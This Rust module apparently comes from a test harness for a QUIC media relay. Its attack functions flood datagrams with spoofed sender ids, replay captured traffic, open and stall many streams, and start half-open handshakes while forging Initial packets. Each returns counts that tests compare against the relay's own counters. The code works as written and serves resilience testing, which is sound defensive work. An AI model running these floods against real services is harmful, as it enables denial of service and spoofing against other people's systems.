//! The attacks, each a plain async function over the attacker's own QUIC
//! connection (or its own UDP sockets), returning what it did so a test
//! can compare it with what the relay counted.

use std::net::SocketAddr;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use bytes::Bytes;

use crate::quic;
use crate::wire::{self, Rng};

/// Reads the room's datagrams until `want` distinct sender ids were seen
/// (a member receives everyone's media), or `within` passed.
pub async fn learn_senders(conn: &quinn::Connection, want: usize, within: Duration) -> Vec<u32> {
    let deadline = tokio::time::Instant::now() + within;
    let mut ids = Vec::new();
    while ids.len() < want {
        match tokio::time::timeout_at(deadline, conn.read_datagram()).await {
            Ok(Ok(d)) => {
                if let Some(id) = wire::sender_id(&d) {
                    if !ids.contains(&id) {
                        ids.push(id);
                    }
                }
            }
            _ => break,
        }
    }
    ids
}

/// Discards the datagrams already waiting on `conn` (what it received
/// while nobody read); returns how many.
pub async fn drain(conn: &quinn::Connection) -> usize {
    let mut n = 0;
    // A zero timeout still polls once: it takes what is ready, no more.
    while let Ok(Ok(_)) = tokio::time::timeout(Duration::ZERO, conn.read_datagram()).await {
        n += 1;
    }
    n
}

/// The distinct sender ids of the datagrams `conn` receives in `over`.
pub async fn senders_within(conn: &quinn::Connection, over: Duration) -> Vec<u32> {
    let mut ids = Vec::new();
    for (_, d) in capture(conn, over).await {
        if let Some(id) = wire::sender_id(&d) {
            if !ids.contains(&id) {
                ids.push(id);
            }
        }
    }
    ids
}

/// What [`datagram_flood`] sent.
#[derive(Clone, Copy, Debug, Default)]
pub struct FloodReport {
    /// Datagrams with a valid header carrying a victim's sender id.
    pub spoofed: u64,
    /// Datagrams that are not media packets (bad version, too short).
    pub garbage: u64,
    /// How long sending took.
    pub took: Duration,
}

/// Sends `total` datagrams spread over `over`: every other one a media
/// packet with a valid-looking header carrying one of `victims`' sender
/// ids (seq far ahead, random payload: a forged tag), the rest garbage (a
/// wrong version byte, or shorter than a header).
pub async fn datagram_flood(
    conn: &quinn::Connection,
    victims: &[u32],
    total: u64,
    over: Duration,
    seed: u64,
) -> FloodReport {
    assert!(!victims.is_empty(), "a flood needs sender ids to spoof");
    let mut rng = Rng::new(seed);
    let mut report = FloodReport::default();
    let start = Instant::now();
    let mut seq: u32 = 1 << 30;
    let mut sent = 0u64;
    let mut tick = tokio::time::interval(Duration::from_millis(5));
    while sent < total {
        tick.tick().await;
        let due = ((start.elapsed().as_secs_f64() / over.as_secs_f64()) * total as f64)
            .min(total as f64) as u64;
        let target = due.max(sent + 1).min(total);
        while sent < target {
            let d = if sent % 2 == 0 {
                let victim = victims[(sent / 2) as usize % victims.len()];
                seq = seq.wrapping_add(1);
                let mut p = wire::media_header(victim, seq, seq.wrapping_mul(960), 0).to_vec();
                let mut body = vec![0u8; rng.range(40, 160)];
                rng.fill(&mut body);
                p.extend_from_slice(&body);
                report.spoofed += 1;
                p
            } else {
                let mut p = vec![0u8; rng.range(1, 200)];
                rng.fill(&mut p);
                if p.len() >= wire::MEDIA_HEADER_LEN {
                    // Never version 1: garbage must not parse as media.
                    p[0] = 0x02 | (p[0] & 0xf0);
                }
                report.garbage += 1;
                p
            };
            if conn.send_datagram_wait(Bytes::from(d)).await.is_err() {
                report.took = start.elapsed();
                return report;
            }
            sent += 1;
        }
    }
    report.took = start.elapsed();
    report
}

/// Datagrams received in `over`, with when each came (from the first).
pub async fn capture(conn: &quinn::Connection, over: Duration) -> Vec<(Duration, Bytes)> {
    let start = tokio::time::Instant::now();
    let deadline = start + over;
    let mut got = Vec::new();
    while let Ok(Ok(d)) = tokio::time::timeout_at(deadline, conn.read_datagram()).await {
        got.push((start.elapsed(), d));
    }
    got
}

/// Sends `captured` back, unchanged, at the pace it came; `rounds` times
/// over. Returns how many datagrams were sent.
pub async fn replay(conn: &quinn::Connection, captured: &[(Duration, Bytes)], rounds: u32) -> u64 {
    let mut sent = 0;
    for _ in 0..rounds {
        let start = tokio::time::Instant::now();
        for (at, d) in captured {
            tokio::time::sleep_until(start + *at).await;
            if conn.send_datagram_wait(d.clone()).await.is_err() {
                return sent;
            }
            sent += 1;
        }
    }
    sent
}

/// What [`stream_flood`] got through.
#[derive(Clone, Copy, Debug, Default)]
pub struct StreamFloodReport {
    /// Streams the relay let the attacker open (of those it tried).
    pub opened: u64,
    /// Bytes the relay's flow control accepted into those streams.
    pub bytes_accepted: u64,
}

/// Tries to open `streams` streams (bidirectional and unidirectional in
/// turn) and write `bytes_each` into each, for at most `within`. Writes
/// that flow control holds back, and opens past the stream limit, wait
/// until the deadline and are then abandoned (the streams are reset).
pub async fn stream_flood(
    conn: &quinn::Connection,
    streams: u32,
    bytes_each: usize,
    within: Duration,
) -> StreamFloodReport {
    let deadline = tokio::time::Instant::now() + within;
    let opened = Arc::new(AtomicU64::new(0));
    let accepted = Arc::new(AtomicU64::new(0));
    let mut tasks = tokio::task::JoinSet::new();
    for i in 0..streams {
        let conn = conn.clone();
        let opened = opened.clone();
        let accepted = accepted.clone();
        tasks.spawn(async move {
            let _ = tokio::time::timeout_at(deadline, async {
                let mut send = if i % 2 == 0 {
                    match conn.open_bi().await {
                        Ok((s, _r)) => s,
                        Err(_) => return,
                    }
                } else {
                    match conn.open_uni().await {
                        Ok(s) => s,
                        Err(_) => return,
                    }
                };
                opened.fetch_add(1, Ordering::Relaxed);
                let chunk = vec![0x5au8; 16 * 1024];
                let mut left = bytes_each;
                while left > 0 {
                    let n = left.min(chunk.len());
                    match send.write(&chunk[..n]).await {
                        Ok(w) => {
                            accepted.fetch_add(w as u64, Ordering::Relaxed);
                            left -= w;
                        }
                        Err(_) => return,
                    }
                }
                // Never finished: the data stays unread at the relay.
                std::future::pending::<()>().await;
            })
            .await;
        });
    }
    while tasks.join_next().await.is_some() {}
    StreamFloodReport {
        opened: opened.load(Ordering::Relaxed),
        bytes_accepted: accepted.load(Ordering::Relaxed),
    }
}

/// What [`handshake_flood`] sent.
#[derive(Clone, Copy, Debug, Default)]
pub struct HandshakeFloodReport {
    /// Real QUIC/TLS handshakes started whose replies were never read
    /// (the relay holds each until its handshake gives up).
    pub half_open: u64,
    /// Forged QUIC Initial packets with garbage where the ClientHello goes.
    pub garbage: u64,
}

/// `half_open` handshakes that never complete plus `garbage` forged
/// Initial packets, spread over `over`.
///
/// The half-open ones are real quinn handshakes (a valid-looking room
/// server name each) sent through a one-way relay of our own: the first
/// Initial (the ClientHello) reaches the relay, its answer never comes
/// back, so the relay keeps each handshake (and retransmits its answer)
/// until it gives up. The forged ones are
/// 1200-byte long-header packets of QUIC version 1 with random connection
/// ids and a random body that no Initial key decrypts.
pub async fn handshake_flood(
    relay: SocketAddr,
    half_open: u64,
    garbage: u64,
    over: Duration,
    seed: u64,
) -> std::io::Result<HandshakeFloodReport> {
    let mut rng = Rng::new(seed);
    let one_way = Arc::new(tokio::net::UdpSocket::bind("127.0.0.1:0").await?);
    let one_way_addr = one_way.local_addr()?;
    let forwarding = Arc::new(AtomicBool::new(true));
    let forwarded = Arc::new(AtomicU64::new(0));
    let forwarder = {
        let sock = one_way.clone();
        let forwarding = forwarding.clone();
        let forwarded = forwarded.clone();
        tokio::spawn(async move {
            let mut buf = vec![0u8; 65536];
            // A half-open attacker sends one Initial per attempt: quinn's
            // retransmissions (same destination connection id) stay here.
            let mut seen = std::collections::HashSet::new();
            while let Ok((n, from)) = sock.recv_from(&mut buf).await {
                if from == relay || !forwarding.load(Ordering::Relaxed) {
                    continue;
                }
                let dcid = buf[..n]
                    .get(5)
                    .and_then(|&len| buf[..n].get(6..6 + len as usize))
                    .map(<[u8]>::to_vec);
                if dcid.is_some_and(|d| seen.insert(d)) {
                    let _ = sock.send_to(&buf[..n], relay).await;
                    forwarded.fetch_add(1, Ordering::Relaxed);
                }
            }
        })
    };
    let forger = tokio::net::UdpSocket::bind("127.0.0.1:0").await?;
    let ep = quic::endpoint()?;
    let mut pending = Vec::new();
    let mut report = HandshakeFloodReport::default();
    let total = half_open + garbage;
    let start = Instant::now();
    let mut tick = tokio::time::interval(Duration::from_millis(5));
    let mut sent = 0u64;
    while sent < total {
        tick.tick().await;
        let due = ((start.elapsed().as_secs_f64() / over.as_secs_f64()) * total as f64)
            .min(total as f64) as u64;
        let target = due.max(sent + 1).min(total);
        while sent < target {
            let want_half_open =
                report.half_open < half_open && (report.garbage >= garbage || sent % 2 == 0);
            if want_half_open {
                let mut name = [0u8; 16];
                rng.fill(&mut name);
                if let Ok(c) = ep.connect(one_way_addr, &wire::hex(&name)) {
                    // Polled so quinn sends its Initial; never completes.
                    pending.push(tokio::spawn(async move {
                        let _ = c.await;
                    }));
                    report.half_open += 1;
                }
            } else {
                let mut p = vec![0u8; 1200];
                rng.fill(&mut p);
                p[0] = 0xc0 | (p[0] & 0x0f); // long header, Initial
                p[1..5].copy_from_slice(&1u32.to_be_bytes()); // QUIC v1
                p[5] = 8; // DCID length, 8 random bytes follow
                p[14] = 8; // SCID length
                p[23] = 0; // no token
                           // Packet number and payload: the 1174 bytes left, as a
                           // 2-byte varint (0x4000 | 1174).
                p[24] = 0x44;
                p[25] = 0x96;
                let _ = forger.send_to(&p, relay).await;
                report.garbage += 1;
            }
            sent += 1;
        }
    }
    // Once every ClientHello went through (bounded), cut the path before
    // the handshakes are dropped, so their closes never reach the relay.
    let deadline = Instant::now() + Duration::from_secs(5);
    while forwarded.load(Ordering::Relaxed) < report.half_open && Instant::now() < deadline {
        tokio::time::sleep(Duration::from_millis(5)).await;
    }
    forwarding.store(false, Ordering::Relaxed);
    for p in pending {
        p.abort();
    }
    ep.close(0u32.into(), b"");
    forwarder.abort();
    Ok(report)
}
